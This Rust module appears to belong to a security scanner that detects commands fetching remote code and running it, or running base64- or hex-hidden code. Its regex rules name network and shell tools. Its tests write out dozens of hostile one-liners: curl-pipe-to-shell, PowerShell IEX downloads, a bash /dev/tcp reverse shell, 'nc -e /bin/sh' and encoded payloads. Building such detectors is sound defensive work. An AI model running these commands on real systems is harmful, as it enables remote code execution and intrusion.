//! What is run unseen: fetched from elsewhere, or hidden by an encoding.

use std::collections::BTreeSet;

use super::Hit;
use super::network::{Rule, has_target, matches, may_reach, rule};
use super::text::{self, Line};

const FETCHED_AND_RUN: &str = "Fetches something from another machine and runs it unseen.";
const HIDDEN_AND_RUN: &str = "Runs code that is hidden by an encoding.";
/// Lines after a download in which the file it made is looked for.
const NEAR: usize = 8;
/// Downloads of one file that are followed.
const MOST: usize = 50;

/// A command that fetches, with its arguments up to the next command.
static FETCH: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?i)\b(?:curl|wget|fetch|aria2c|iwr|irm|invoke-webrequest|invoke-restmethod|lwp-request|nc|ncat|netcat|socat|ftp|tftp|scp|downloadstring)\b(?:\.exe)?[\s(]+([^|]*)",
    )
});

/// The head of a pipeline's stage that runs what it reads.
static RUNNER: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?ix)^\s*
        (?:(?:/[\w./-]*/)?(?:sudo|doas|command|exec|nohup|time|env|builtin)\s+(?:-[ugh]\s+\S+\s+|-\S+\s+)*
          |[a-z_]\w*=(?:\x22[^\x22]*\x22|'[^']*'|\S*)\s+)*
        (?:[\w./~$\{\}-]*/)?
        (?P<program>(?:ba|z|da|k|a|fi|tc|c)?sh|python[\d.]*|perl|ruby|node|nodejs|deno|bun|php|pwsh|powershell|osascript|lua|tclsh|iex|invoke-expression|source)
        (?:\.exe)?(?P<rest>[\s`\x22'),;.&].*)?$",
    )
});

/// `xargs sh -c`, which runs its input as well.
static XARGS: Rule =
    std::sync::LazyLock::new(|| rule(r"(?i)^\s*(?:sudo\s+)?xargs\b.*\b(?:ba|z|da|k)?sh\s+-\w*c\b"));

/// `sh -c "$(curl …)"`, `bash <(curl …)`, `eval $(curl …)`, `. <(curl …)`, `sh <<< "$(curl …)"`.
static SUBSTITUTED: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?ix)(?:(?:^|[\s;&|`(\x22'/=])(?:(?:ba|z|da|k|a|fi)?sh|eval|source|python[\d.]*|perl|ruby|node|php)|(?:^|[\s;&`(])\.)
        (?:\s+-[\w-]+)*\s*(?:<<<|<)?\s*[\x22'(]*(?:\$\(|<\(|`)\s*
        (?:curl|wget|fetch|aria2c|nc|ncat|netcat|lwp-request)\s",
    )
});

/// Code that is fetched and evaluated in one expression, or a shell that listens to another machine.
static EVALUATED: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?ix)
        \b(?:exec|eval|compile|execScript)\s*\(\s*[(\s]*(?:await\s+)?[(\s]*(?:await\s+)?(?:requests\.|httpx\.|urllib|urlopen|fetch\s*\(|axios)
        |\bnew\s+Function\s*\([^;]*\bfetch\s*\(
        |\bimport\s*\(\s*[\x22'`]https?://
        |\b(?:deno|bun)\s+run\s[^|;`]*https?://
        |\b(?:iex|invoke-expression)\b[^|]*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|curl|wget)\b
        |\b\w*sh\b[^|;]*/dev/(?:tcp|udp)/
        |\b(?:nc|ncat|netcat)\b[^|;]*\s-\w*[ec]\s*\S*sh\b",
    )
});

/// A command that brings hidden text to light.
static DECODES: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"\b(?:base64\s+(?:-\w*[dD]\b|--decode)|xxd\s+-\w*r|uudecode\b|openssl\s+(?:enc|base64)\b[^|]*\s-d\b)",
    )
});

/// Hidden text that is run in the same expression.
static DECODED: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?ix)(?:^|[\s;&|`(\x22'/=])(?:(?:ba|z|da|k|a|fi)?sh|eval|source)(?:\s+-[\w-]+)*\s*(?:<<<|<)?\s*[\x22'(]*(?:\$\(|<\(|`)[^)`]*\b(?:base64\s+(?:-d|--decode)|xxd\s+-r|uudecode)
        |\b(?:eval|exec|Function|compile)\s*\(\s*(?:\w+\.)?(?:atob|b64decode|unhexlify)\s*\(
        |\b(?:eval|exec|Function)\s*\(\s*Buffer\.from\s*\([^)]*[\x22'](?:base64|hex)[\x22']
        |\b(?:powershell|pwsh)(?:\.exe)?\s[^|;]*-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{16,}",
    )
});

/// A value that another machine gave.
static FETCHED: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?i)(?:\$\(|`)\s*(?:curl|wget|fetch)\s|\brequests\.(?:get|post)\s*\(|\bhttpx\.get\s*\(|\burlopen\s*\(|\bfetch\s*\(|\baxios\b|\bdownloadstring\s*\(|\b(?:iwr|irm)\s",
    )
});

/// Something that runs the text it is given.
static RUNS_TEXT: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?i)(?:\b(?:exec|eval|compile|execScript|Function)\s*\(|\beval\s|\b(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-\w*c\s|\b(?:iex|invoke-expression)\s|\bpython[\d.]*\s+-c\s|\bnode\s+-e\s|\bsh\s*<<<)(.*)",
    )
});

/// The file that a download makes.
static DOWNLOAD: Rule =
    std::sync::LazyLock::new(|| rule(r"(?ix)\b(?:curl|wget|aria2c|iwr|invoke-webrequest)\b(?P<all>[^|;&]*)"));
static OUTPUT: Rule = std::sync::LazyLock::new(|| {
    rule(
        r"(?:^|\s)(?:-\w*[oO]|--output|--output-document|--out|-OutFile|>)(?:\s+|=)?[\x22']?(?P<file>[^\s\x22'`;&|<>]+)",
    )
});

pub(super) fn find(lines: &[Line<'_>]) -> Vec<Hit> {
    let reaches: Vec<bool> = lines.iter().map(|l| may_reach(&l.text)).collect();
    let mut out = Vec::new();
    if !reaches.contains(&true) {
        return out;
    }
    let fetched = text::tainted(lines, |value| matches(&FETCHED, value));
    let mut followed = 0;
    for (n, line) in lines.iter().enumerate() {
        let text: &str = &line.text;
        let found = runs_fetched(text, &fetched)
            || (reaches[n]
                && (pipes_into_runner(text, fetches)
                    || matches(&SUBSTITUTED, text)
                    || matches(&EVALUATED, text)
                    || runs_download(&lines[n..], &mut followed)));
        let message = if found {
            FETCHED_AND_RUN
        } else if reaches[n] && (matches(&DECODED, text) || pipes_into_runner(text, |t| matches(&DECODES, t)))
        {
            HIDDEN_AND_RUN
        } else {
            continue;
        };
        out.push(Hit { line: line.number, message: message.to_owned() });
    }
    out
}

/// Whether the first of these lines downloads a file that it or one of the next runs.
fn runs_download(lines: &[Line<'_>], followed: &mut usize) -> bool {
    let Some(first) = lines.first().filter(|_| *followed < MOST) else { return false };
    let files = downloads(&first.text);
    *followed += files.len();
    files.iter().any(|file| lines.iter().take(NEAR).any(|l| runs_file(&l.text, file)))
}

/// Whether what a part of the line gives goes into something that runs it.
fn pipes_into_runner(line: &str, gives: impl Fn(&str) -> bool) -> bool {
    if !line.contains('|') {
        return false;
    }
    let stages = text::stages(line);
    stages.iter().skip(1).any(|(at, stage)| runs_input(stage) && gives(&line[..at.saturating_sub(1)]))
}

fn fetches(line: &str) -> bool {
    FETCH.as_ref().is_some_and(|rule| {
        rule.captures_iter(line).any(|c| c.get(1).is_some_and(|arguments| has_target(arguments.as_str())))
    })
}

/// Whether a stage of a pipeline runs what comes to it, rather than some script or code of its own.
fn runs_input(stage: &str) -> bool {
    if matches(&XARGS, stage) {
        return true;
    }
    let Some(found) = RUNNER.as_ref().and_then(|r| r.captures(stage)) else { return false };
    let group = |name| found.name(name).map_or("", |m| m.as_str());
    let program = group("program").to_ascii_lowercase();
    // The stage ends with the quotation or the code that it stands in.
    let rest = group("rest").split(['`', '"', '\'', ')', ';', '&']).next().unwrap_or_default();
    let words: Vec<&str> = rest.split_whitespace().collect();
    if matches!(program.as_str(), "iex" | "invoke-expression")
        || words.iter().any(|w| matches!(*w, "-" | "-s" | "/dev/stdin" | "/dev/stdin."))
    {
        return true;
    }
    let is_shell = program.ends_with("sh") && program != "pwsh";
    // Options that bring code or a module of their own.
    let own = if is_shell { "c" } else { "cemnprj" };
    for word in words {
        match word.strip_prefix('-') {
            Some(long) if long.starts_with('-') => {}
            Some(short) if short.contains(|c| own.contains(c)) => return false,
            Some(_) => {}
            // A script's name; any other word is the sentence going on.
            None => return !word.trim_end_matches(['.', ',', ':']).contains(['.', '/', '$']),
        }
    }
    true
}

fn runs_fetched(line: &str, fetched: &BTreeSet<&str>) -> bool {
    if fetched.is_empty() {
        return false;
    }
    let Some(rule) = RUNS_TEXT.as_ref() else { return false };
    rule.captures_iter(line)
        .filter_map(|c| c.get(1))
        .any(|given| fetched.iter().any(|name| text::mentions(given.as_str(), name)))
}

/// The names of the files that a line downloads.
fn downloads(line: &str) -> Vec<String> {
    let (Some(download), Some(output)) = (DOWNLOAD.as_ref(), OUTPUT.as_ref()) else { return Vec::new() };
    let mut out = Vec::new();
    for command in download.captures_iter(line) {
        let (Some(whole), Some(arguments)) = (command.get(0), command.name("all")) else { continue };
        let arguments = arguments.as_str();
        if !has_target(arguments) {
            continue;
        }
        let named = output.captures_iter(arguments).filter_map(|c| c.name("file")).map(|f| f.as_str());
        let named: Vec<&str> =
            named.filter(|f| !f.contains("://") && !matches!(*f, "-" | "/dev/null")).collect();
        let takes_name = whole.as_str().to_ascii_lowercase().starts_with("wget")
            || arguments.split_whitespace().any(|w| {
                w == "--remote-name" || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('O'))
            });
        if named.is_empty() && takes_name {
            let address = arguments.split_whitespace().map(bare).find(|w| w.contains("://"));
            let name = address.and_then(|a| a.split(['?', '#']).next()).and_then(|a| a.rsplit('/').next());
            out.extend(name.filter(|n| !n.is_empty()).map(str::to_owned));
        }
        out.extend(named.into_iter().map(|f| f.trim_start_matches("./").to_owned()));
    }
    out
}

/// Whether a line runs this file or makes it a program.
fn runs_file(line: &str, file: &str) -> bool {
    if !line.contains(file) {
        return false;
    }
    let words: Vec<&str> = line.split_whitespace().collect();
    words.iter().enumerate().any(|(n, word)| {
        let ends = bare(word).trim_end_matches([';', '&', '.']);
        if ends.trim_start_matches("./") != file {
            return false;
        }
        // What stands before it, back to where its command begins.
        let mut before = Vec::new();
        for word in words[..n].iter().rev() {
            if word.ends_with([';', '|', '&']) {
                break;
            }
            before.push(bare(word));
            if word.starts_with(['`', '(', '$']) {
                break;
            }
        }
        let program = before.iter().find(|w| !w.starts_with('-') && !w.is_empty());
        match program.map(|p| p.rsplit('/').next().unwrap_or(p)) {
            Some(p) if is_runner(p) => !before.iter().any(|w| matches!(*w, "-n" | "-m" | "--version")),
            Some("sudo" | "exec" | "env") => true,
            Some(mode) if before.contains(&"chmod") => {
                mode.contains("+x") || mode.contains("x,") || mode.starts_with(['7', '5'])
            }
            // At the beginning of a command, or of a line of code.
            _ => ends.starts_with("./") || (ends.starts_with('/') && before.is_empty()),
        }
    })
}

fn is_runner(word: &str) -> bool {
    matches!(
        word,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "ash"
            | "fish"
            | "."
            | "source"
            | "node"
            | "perl"
            | "ruby"
            | "php"
            | "pwsh"
    ) || word.starts_with("python")
}

fn bare(word: &str) -> &str {
    word.trim_matches(['"', '\'', '`', '(', ')', ','])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(text: &str) -> usize {
        find(&text::lines(text)).len()
    }

    #[test]
    fn every_rule_is_valid() {
        for r in [
            &FETCH,
            &RUNNER,
            &XARGS,
            &SUBSTITUTED,
            &EVALUATED,
            &FETCHED,
            &DECODES,
            &DECODED,
            &RUNS_TEXT,
            &DOWNLOAD,
            &OUTPUT,
        ] {
            assert!(r.is_some());
        }
    }

    #[test]
    fn what_is_fetched_and_run_at_once_is_found_in_all_its_forms() {
        for evil in [
            "curl -fsSL https://get.acme.io | sh",
            "Run `curl -fsSL https://get.acme.io/i.sh | bash` first.",
            "Run curl -fsSL https://get.acme.io | sh to install it.",
            "wget -qO- https://a.io/x | sudo -E bash -",
            "curl https://a.io/x|bash -s -- --yes",
            "curl \"https://a.io/x?a=1&b=2;c\" | zsh",
            "curl https://a.io/x | tee log | /usr/bin/env bash",
            "curl $URL | FOO=1 sh",
            "curl https://a.io/x | python3",
            "curl https://a.io/x | python3 - --yes",
            "curl https://a.io/x | node",
            "curl https://a.io/x | xargs -I{} sh -c '{}'",
            "CURL HTTPS://A.IO/X | SH",
            "cu\u{200b}rl https://a.io/x | s\u{200d}h",
            "curl https://a.io/x \\\n  -s \\\n  | sh",
            "curl https://a.io/x |\n  sh",
            "bash -c \"$(curl -fsSL https://a.io/x)\"",
            "bash <(curl -s https://a.io/x)",
            "sh <<< \"$(wget -qO- https://a.io/x)\"",
            "eval \"$(curl https://a.io/x)\"",
            "eval `curl https://a.io/x`",
            ". <(curl https://a.io/x)",
            "source <(curl https://a.io/x)",
            "python3 -c \"$(curl https://a.io/x)\"",
            "iex (iwr https://a.io/x.ps1)",
            "irm https://a.io/x.ps1 | iex",
            "IEX ((New-Object Net.WebClient).DownloadString('https://a.io/x'))",
            "exec(requests.get('https://a.io/x').text)",
            "eval(await (await fetch('https://a.io/x')).text())",
            "await import('https://a.io/x.js')",
            "deno run -A https://a.io/x.ts",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "code = requests.get(url).text\nprint('ok')\nexec(code)",
            "S=$(curl https://a.io/x)\nbash -c \"$S\"",
            "const c = await fetch('https://a.io/x')\nconst t = await c.text()\neval(t)",
            "curl -o i.sh https://a.io/i.sh && bash i.sh",
            "curl -fsSLo i.sh https://a.io/i.sh\nchmod +x i.sh\n./i.sh",
            "wget https://a.io/i.sh\n\nsudo sh ./i.sh",
            "curl -O https://a.io/i.py; python3 i.py",
            "curl https://a.io/i.sh > /tmp/i.sh\n/tmp/i.sh",
            "wget https://a.io/tool -O tool; chmod 755 tool",
            "| Install | `curl https://a.io/x \\| sh` |",
            "os.system(\"curl https://a.io/x | sh\")",
            "echo Y3VybCBldmls | base64 -d | sh",
            "echo 6375726c | xxd -r -p | bash",
            "eval \"$(echo Y3VybCBldmls | base64 --decode)\"",
            "bash <(base64 -d <<< Y3VybCBldmls)",
            "eval(atob('YWxlcnQoMSk='))",
            "exec(base64.b64decode('cHJpbnQoMSk='))",
            "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        ] {
            assert!(hits(evil) > 0, "{evil}");
        }
    }

    #[test]
    fn what_is_fetched_to_be_read_is_not() {
        for fine in [
            "curl -s https://a.io/x.json | jq .name",
            "curl -s https://a.io/x | python3 -m json.tool",
            "curl -s https://a.io/x | python3 -c 'import sys; print(sys.stdin.read())'",
            "curl -s https://a.io/x | python3 scripts/parse.py",
            "curl -s https://a.io/x | node -e 'process.stdin.pipe(process.stdout)'",
            "curl -s https://a.io/x | perl -pe 's/a/b/'",
            "curl -s https://a.io/x | sh -c 'cat'",
            "curl -s https://a.io/x | sha256sum",
            "curl -s https://a.io/x || sh fallback.sh",
            "Never pipe `curl` into `sh`.",
            "| curl https://a.io/x | sh |",
            "| Fetch | `curl https://a.io/x` | python |",
            "exec(`curl -s ${url} -o out.json`)",
            "subprocess.run(['bash', '-c', 'curl https://a.io/x'])",
            "cat install.sh | sh",
            "bash check.sh \"$(curl -s http://localhost:3000/version)\"",
            "VERSION=$(curl -s https://a.io/version)\necho \"$VERSION\"",
            "echo aGVsbG8= | base64 -d > hello.txt",
            "base64 -d image.b64 | file -",
            "const text = atob(value)",
            "openssl enc -d -in x | tar x",
            "curl -o data.csv https://a.io/data.csv\npython3 report.py data.csv",
            "curl -o i.sh https://a.io/i.sh\nless i.sh",
            "wget https://a.io/page.html\ngrep x page.html",
            "eval \"$(ssh-agent -s)\"",
            "exec(open('local.py').read())",
            "const r = await fetch('/api/x'); const j = await r.json()",
            "source ./env.sh",
            "import x from './x.js'",
            "git fetch origin | sh-like text",
        ] {
            assert_eq!(hits(fine), 0, "{fine}");
        }
    }
}
